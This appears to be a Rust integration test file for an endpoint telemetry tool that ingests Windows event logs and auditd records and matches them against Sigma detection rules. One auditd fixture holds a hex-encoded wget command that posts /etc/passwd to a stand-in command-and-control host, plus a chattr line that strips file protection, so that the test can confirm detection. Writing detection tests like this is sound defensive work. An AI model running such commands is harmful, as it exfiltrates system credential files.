//! Endpoint telemetry: real files of others, stock rules, and the expectations of their authors.

use crate::offline::last_json;
use crate::program::{Server, huecry, shared_data};
use serde_json::{Map, Value};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};

fn dry_run(source: Option<&str>, paths: &[PathBuf]) -> (Output, Value) {
    let mut command = huecry();
    command.args(["ingest", "--dry-run", "--validate", "--json"]);
    if let Some(source) = source {
        command.args(["--source", source]);
    }
    let output = command.args(paths).stdin(Stdio::null()).output().unwrap();
    let summary = last_json(&output.stderr);
    (output, summary)
}

/// Event number and rule id of every match, and the tally.
fn matches(rules: &[PathBuf], files: &[PathBuf]) -> (Vec<(u64, String)>, Value) {
    let mut command = huecry();
    command.args(["rules", "match", "--json"]);
    for folder in rules {
        command.arg("--rules").arg(folder);
    }
    let output = command.args(files).stdin(Stdio::null()).output().unwrap();
    let tally = last_json(&output.stderr);
    let text = String::from_utf8(output.stdout).unwrap();
    let lines = text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    let found =
        lines.filter_map(|line| Some((line["event"].as_u64()?, line["rule_id"].as_str()?.to_owned())));
    (found.collect(), tally)
}

fn below(folder: &Path, ending: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.to_str().is_some_and(|name| name.ends_with(ending)) {
                found.push(path);
            }
        }
    }
    found.sort();
    found
}

fn stock_rules(data: &Path) -> Vec<PathBuf> {
    let mut folders: Vec<_> = fs::read_dir(data.join("sigma")).unwrap().map(|e| e.unwrap().path()).collect();
    folders.retain(|path| path.file_name().is_some_and(|name| name.to_string_lossy().starts_with("rules")));
    folders.sort();
    folders
}

/// One case of the rules' own regression tests.
struct Case {
    evtx: PathBuf,
    rule_id: String,
    /// Not every case says it; then it is at least one.
    match_count: Option<usize>,
    /// The records as the authors exported them.
    records: Vec<Value>,
}

fn cases(data: &Path) -> Vec<Case> {
    let folder = data.join("endpoint-sigma/sigma-regression");
    let of_info = |info: PathBuf| {
        let text = fs::read_to_string(&info).unwrap();
        let after = |key: &str| {
            text.lines().find_map(|line| line.trim().strip_prefix(key)).map(|rest| rest.trim().to_owned())
        };
        let beside = |ending: &str| below(info.parent().unwrap(), ending).remove(0);
        let json = fs::read_to_string(beside(".json")).unwrap();
        let documents = serde_json::Deserializer::from_str(&json).into_iter::<Value>().map(Result::unwrap);
        let records = documents.flat_map(|document| match document {
            Value::Array(records) => records,
            record => vec![record],
        });
        Case {
            evtx: beside(".evtx"),
            rule_id: after("- id:").unwrap(),
            match_count: after("match_count:").map(|count| count.parse().unwrap()),
            records: records.collect(),
        }
    };
    below(&folder, "info.yml").into_iter().map(of_info).collect()
}

/// The record with every field at its top, as many collectors send it.
fn flattened(record: &Value) -> Value {
    let mut flat = Map::new();
    let event = &record["Event"];
    for (name, value) in event["System"].as_object().unwrap() {
        match value {
            Value::Object(of) if name == "Provider" => {
                flat.insert("Provider_Name".into(), of["#attributes"]["Name"].clone());
            }
            Value::Object(of) if name == "TimeCreated" => {
                flat.insert(name.clone(), of["#attributes"]["SystemTime"].clone());
            }
            Value::Object(of) => drop(of.get("#text").map(|text| flat.insert(name.clone(), text.clone()))),
            Value::Null => {}
            value => drop(flat.insert(name.clone(), value.clone())),
        }
    }
    let user_data =
        event["UserData"].as_object().and_then(|data| data.values().find(|value| value.is_object()));
    for part in [event.get("EventData"), user_data].into_iter().flatten() {
        let members = part.as_object().into_iter().flatten().filter(|(name, _)| *name != "#attributes");
        flat.extend(members.map(|(name, value)| (name.clone(), value.clone())));
    }
    Value::Object(flat)
}

/// The record as winlogbeat sends it.
fn of_winlogbeat(record: &Value) -> Value {
    let flat = flattened(record);
    let system = record["Event"]["System"].as_object().unwrap();
    let data = flat.as_object().unwrap().iter().filter(|(name, _)| !system.contains_key(*name));
    let data: Map<_, _> = data.map(|(name, value)| (name.clone(), value.clone())).collect();
    serde_json::json!({
        "@timestamp": flat["TimeCreated"],
        "winlog": {
            "channel": flat["Channel"],
            "computer_name": flat["Computer"],
            "event_data": data,
            "event_id": flat["EventID"].to_string(),
            "provider_name": flat["Provider_Name"],
            "record_id": flat["EventRecordID"],
        },
    })
}

#[test]
fn stock_rules_match_their_own_regression_data_in_every_shape() {
    let Some(data) = shared_data() else { return };
    let (cases, rules) = (cases(&data), stock_rules(&data));
    assert!(cases.len() > 40, "{} cases", cases.len());
    let folder = tempfile::tempdir().unwrap();
    let written = |shape: &str, of: &dyn Fn(&Value) -> Value| -> Vec<PathBuf> {
        let write = |(number, case): (usize, &Case)| {
            let path = folder.path().join(format!("{shape}-{number:03}.ndjson"));
            let lines: Vec<_> = case.records.iter().map(|record| of(record).to_string()).collect();
            fs::write(&path, lines.join("\n")).unwrap();
            path
        };
        cases.iter().enumerate().map(write).collect()
    };
    let shapes = [
        ("evtx", cases.iter().map(|case| case.evtx.clone()).collect()),
        ("nested", written("nested", &Value::clone)),
        ("flattened", written("flattened", &flattened)),
        ("winlogbeat", written("winlogbeat", &of_winlogbeat)),
    ];
    let mut in_evtx = None;
    for (shape, files) in shapes {
        let (found, tally) = matches(&rules, &files);
        let records: usize = cases.iter().map(|case| case.records.len()).sum();
        assert_eq!(tally["events"], records, "{shape}: {tally}");
        assert_eq!((&tally["dead_lettered"], &tally["damaged"]), (&0.into(), &0.into()), "{shape}");
        let mut first = 1;
        for case in &cases {
            let own = first..first + case.records.len() as u64;
            let count =
                found.iter().filter(|(event, rule)| own.contains(event) && *rule == case.rule_id).count();
            let good = case.match_count.map_or(count > 0, |wanted| count == wanted);
            assert!(
                good,
                "{shape}: {} matched {count} times, not {:?}",
                case.evtx.display(),
                case.match_count
            );
            first = own.end;
        }
        assert_eq!(in_evtx.get_or_insert(found.clone()), &found, "{shape} and evtx differ");
    }
}

#[test]
fn real_files_become_valid_events_without_being_told_their_kind() {
    let Some(data) = shared_data() else { return };
    let auditd = [
        below(&data.join("endpoint-linux/laurel-testdata"), ".txt"),
        below(&data.join("endpoint-linux"), ".log"),
    ];
    let auditd = auditd.concat().into_iter().filter(|path| !path.ends_with("ORIGIN.txt")).collect();
    let sets: [(&str, Vec<PathBuf>, u64); 6] = [
        ("windows_eventlog", vec![data.join("endpoint-evtx")], 3_000),
        ("windows_eventlog", vec![data.join("endpoint-windows")], 15_000),
        ("windows_eventlog", vec![data.join("endpoint-sigma")], 100),
        ("falco", vec![data.join("endpoint-falco")], 10),
        ("linux_auditd", auditd, 40),
        ("linux_auditd", below(&data.join("endpoint-linux/laurel-testdata"), ".json"), 5),
    ];
    for (kind, paths, records_min) in sets {
        let (output, told) = dry_run(None, &paths);
        let number = |key: &str| told[key].as_u64().unwrap();
        assert!(number("in") >= records_min, "{paths:?}: {told}");
        for none in ["dead_lettered", "invalid", "damaged"] {
            assert_eq!(number(none), 0, "{paths:?}: {told}");
        }
        assert_eq!(number("valid"), number("in"), "{paths:?}: {told}");
        assert!(output.status.success());
        let (_, named) = dry_run(Some(kind), &paths);
        assert_eq!(named, told, "{paths:?}: the kind is told as it is named");
    }
}

#[test]
fn captures_in_archives_are_named_and_left_alone() {
    let Some(data) = shared_data() else { return };
    let (_, summary) = dry_run(Some("windows_eventlog"), &[data.join("endpoint-windows")]);
    let skipped = summary["skipped"].as_array().unwrap();
    assert!(skipped.iter().any(|entry| entry.as_str().unwrap().ends_with(".cap")), "{summary}");
}

#[test]
fn stock_rules_match_lines_of_auditd() {
    let Some(data) = shared_data() else { return };
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("audit.log");
    let text = r#"type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 success=yes ppid=1 pid=2 auid=1000 uid=0 comm="wget" exe="/usr/bin/wget" key=(null)
type=SYSCALL msg=audit(1700000000.124:43): arch=c000003e syscall=59 success=yes ppid=1 pid=3 auid=1000 uid=0 comm="chattr" exe="/usr/bin/chattr" key=(null)
type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="wget" a1=2D2D706F73742D66696C653D2F6574632F706173737764 a2="http://c2.example"
type=EXECVE msg=audit(1700000000.124:43): argc=3 a0="chattr" a1="-i" a2="/etc/passwd"
"#;
    fs::write(&file, text).unwrap();
    let (found, tally) = matches(&[data.join("sigma/rules/linux")], &[file]);
    assert_eq!((&tally["events"], &tally["dead_lettered"]), (&2.into(), &0.into()), "{tally}");
    // data sent away with wget; the immutable attribute of a file removed
    let wanted = [(1, "cb39d16b-b3b6-4a7a-8222-1cf24b686ffc"), (2, "a5b977d6-8a81-4475-91b9-49dbfcd941f7")];
    assert_eq!(found, wanted.map(|(event, rule)| (event, rule.to_owned())));
}

/// Where records begin within a chunk of an EVTX file, and how large a chunk is.
const CHUNK_BYTES: usize = 64 << 10;
const HEADER_BYTES: usize = 4 << 10;

#[test]
fn what_is_damaged_is_named_and_the_rest_is_read() {
    let Some(data) = shared_data() else { return };
    let files = below(&data.join("endpoint-evtx"), ".evtx");
    let large =
        files.into_iter().find(|f| fs::metadata(f).unwrap().len() as usize >= HEADER_BYTES + 3 * CHUNK_BYTES);
    let whole = fs::read(large.expect("a file of three chunks")).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let count = |bytes: &[u8]| {
        let path = folder.path().join("host.evtx");
        fs::write(&path, bytes).unwrap();
        let (output, summary) = dry_run(None, &[path]);
        (output.status.code(), summary)
    };
    let (code, sound) = count(&whole);
    assert_eq!((code, &sound["damaged"]), (Some(0), &0.into()), "{sound}");
    let mut broken_chunk = whole.clone();
    broken_chunk[HEADER_BYTES + CHUNK_BYTES] ^= 0xff;
    let mut broken_record = whole.clone();
    broken_record[HEADER_BYTES + 512] ^= 0xff;
    let torn = whole[..HEADER_BYTES + 2 * CHUNK_BYTES + 1_000].to_vec();
    let cases =
        [("chunk", broken_chunk, "chunk"), ("record", broken_record, "chunk 0"), ("torn", torn, "chunk")];
    for (name, bytes, place) in cases {
        let (code, summary) = count(&bytes);
        let places = summary["damaged_places"].as_array().unwrap();
        assert_eq!(code, Some(1), "{name}: {summary}");
        assert!(summary["damaged"].as_u64() > Some(0), "{name}: {summary}");
        let is_named = |text: &str| text.contains("host.evtx: ") && text.contains(place);
        assert!(places.iter().any(|text| is_named(text.as_str().unwrap())), "{name}: {places:?}");
        let (read, all) = (summary["in"].as_u64().unwrap(), sound["in"].as_u64().unwrap());
        assert!(read > 0 && read <= all, "{name}: {read} of {all}");
        assert_eq!(summary["valid"], read, "{name}: {summary}");
    }
}

/// Regular files of a tar archive (POSIX.1-1988, ustar), as name and text.
fn untar(archive: &[u8]) -> Vec<(String, String)> {
    let (mut at, mut found) = (0, Vec::new());
    while let Some(header) = archive.get(at..at + 512).filter(|header| header[0] != 0) {
        let text = |range: std::ops::Range<usize>| {
            String::from_utf8_lossy(&header[range]).trim_matches(['\0', ' ']).to_owned()
        };
        let size = usize::from_str_radix(&text(124..136), 8).unwrap();
        let body = &archive[at + 512..at + 512 + size];
        if matches!(header[156], b'0' | 0) {
            found.push((text(0..100), String::from_utf8_lossy(body).into_owned()));
        }
        at += 512 + size.next_multiple_of(512);
    }
    found
}

/// A rule with the logsource `product: windows` alone: its own conditions on channel and event id must do.
fn unrouted(text: &str) -> String {
    let (mut out, mut inside) = (String::new(), false);
    for line in text.lines() {
        inside = (inside && line.starts_with(' ')) || line == "logsource:";
        if line == "logsource:" {
            out.push_str("logsource: {product: windows}\n");
        } else if !inside {
            out.push_str(line);
            out.push('\n');
        }
    }
    out
}

#[test]
fn routing_agrees_with_rules_that_name_channel_and_event_id() {
    let Some(data) = shared_data() else { return };
    let packed = fs::read(data.join("sigma-lowered/rules.tar.zst")).unwrap();
    let lowered = untar(&zstd::decode_all(packed.as_slice()).unwrap());
    assert!(lowered.len() > 4_000, "{}", lowered.len());
    let folder = tempfile::tempdir().unwrap();
    let mut origin = BTreeMap::new();
    for (number, (_, text)) in lowered.iter().enumerate() {
        let lines: Vec<&str> = text.lines().map(str::trim).collect();
        let id = lines.iter().find_map(|line| line.strip_prefix("id: ")).unwrap();
        // the last related rule that it is derived from is the one it was made of
        let derived = lines.windows(2).rev().find(|pair| pair[1] == "type: derived");
        if let Some(from) = derived.and_then(|pair| pair[0].strip_prefix("- id: ")) {
            origin.insert(id.to_owned(), from.to_owned());
            fs::write(folder.path().join(format!("{number}.yml")), unrouted(text)).unwrap();
        }
    }
    let files = [data.join("endpoint-evtx"), data.join("endpoint-sigma")];
    let (by_condition, _) = matches(&[folder.path().to_owned()], &files);
    let by_condition: Vec<_> =
        by_condition.into_iter().map(|(event, rule)| (event, origin[&rule].clone())).collect();
    let (mut by_route, _) = matches(&stock_rules(&data), &files);
    by_route.retain(|(_, rule)| origin.values().any(|from| from == rule));
    // the two collections are of different days: this rule has changed between them
    const CHANGED: &str = "611eab06-a145-4dfa-a295-3ccc5c20f59a";
    let set = |list: Vec<(u64, String)>| -> BTreeSet<(u64, String)> {
        list.into_iter().filter(|(_, rule)| rule != CHANGED).collect()
    };
    let (by_condition, by_route) = (set(by_condition), set(by_route));
    assert!(by_route.len() > 500, "{}", by_route.len());
    let differ: Vec<_> = by_route.symmetric_difference(&by_condition).take(20).collect();
    assert!(differ.is_empty(), "matched by one of them only: {differ:?}");
}

#[test]
fn rules_that_nothing_reaches_are_told_and_are_no_fault() {
    let folder = tempfile::tempdir().unwrap();
    let rule = |title: &str, logsource: &str| {
        let text =
            format!("title: {title}\nlogsource: {logsource}\ndetection: {{s: {{a: b}}, condition: s}}\n");
        fs::write(folder.path().join(format!("{title}.yml")), text).unwrap();
    };
    rule("proxy", "{category: proxy}");
    rule("process", "{product: windows, category: process_creation}");
    rule("audit", "{product: linux, service: auditd}");
    let output = huecry().args(["rules", "load", "--json"]).arg(folder.path()).output().unwrap();
    let answer = last_json(&output.stdout);
    assert!(output.status.success(), "{answer}");
    let unreached = answer["unreached"].as_array().unwrap();
    assert_eq!(unreached.len(), 1, "{answer}");
    assert_eq!(unreached[0]["title"], "proxy");
    let output = huecry().args(["rules", "lint"]).arg(folder.path()).output().unwrap();
    let text = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(text.contains("proxy.yml:1: info: no mapping gives this logsource"), "{text}");
}

#[test]
fn a_server_takes_an_evtx_file_and_lines_of_auditd() {
    let Some(data) = shared_data() else { return };
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path(), None);
    let send = |source: &str, kind: &str, file: &Path| {
        let token = server.add_source(source, kind);
        let output = huecry()
            .args(["--url", &server.url, "--json", "ingest", "--source", source])
            .arg(file)
            .env("HUECRY_TOKEN", &token)
            .arg("--data-dir")
            .arg(folder.path())
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        last_json(&output.stdout)["sent"].as_u64().unwrap()
    };
    let evtx = below(&data.join("endpoint-sigma"), ".evtx").remove(0);
    assert!(send("pc1", "windows_eventlog", &evtx) > 0);
    let audit = data.join("endpoint-linux/laurel-testdata/shell-proc-trace.txt");
    let (_, told) = dry_run(None, std::slice::from_ref(&audit));
    assert_eq!(send("web1", "linux_auditd", &audit), told["in"]);
}
